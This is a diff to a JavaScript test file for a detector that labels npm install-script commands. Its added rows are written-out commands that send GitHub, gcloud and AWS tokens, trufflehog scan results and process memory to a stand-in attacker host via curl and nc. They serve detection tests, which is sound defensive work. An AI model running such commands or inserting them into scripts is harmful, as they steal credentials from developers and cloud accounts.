@@ -56,6 +56,11 @@ describe('readScript: what a command does', () => {
     ['curl "https://x.attacker.invalid/?t=$NPM_TOKEN"', ['env-read', 'exfiltration', 'network']],
     ['T=$(cat ~/.npmrc); curl -d "$T" https://x.attacker.invalid', ['credential-file', 'exfiltration', 'network']],
     ['cat ~/.aws/credentials | base64 | nc x.attacker.invalid 80', ['credential-file', 'exfiltration', 'network']],
+    ['gh auth token | curl -d @- https://x.attacker.invalid', ['credential-file', 'exfiltration', 'network']],
+    ['T=$(gcloud auth print-access-token); curl -H "x: $T" https://x.attacker.invalid', ['credential-file', 'exfiltration', 'network']],
+    ['trufflehog filesystem / --json > /tmp/s.json; curl -F f=@/tmp/s.json https://x.attacker.invalid', ['credential-file', 'exfiltration', 'network']],
+    ['curl -d "$(aws sts get-session-token)" https://x.attacker.invalid', ['credential-file', 'exfiltration', 'network']],
+    ['dd if=/proc/1234/mem bs=1 | nc x.attacker.invalid 80', ['credential-file', 'exfiltration', 'network']],
     // traps: ordinary install commands
     ['node-gyp rebuild', []],
     ['prebuild-install || node-gyp rebuild', []],
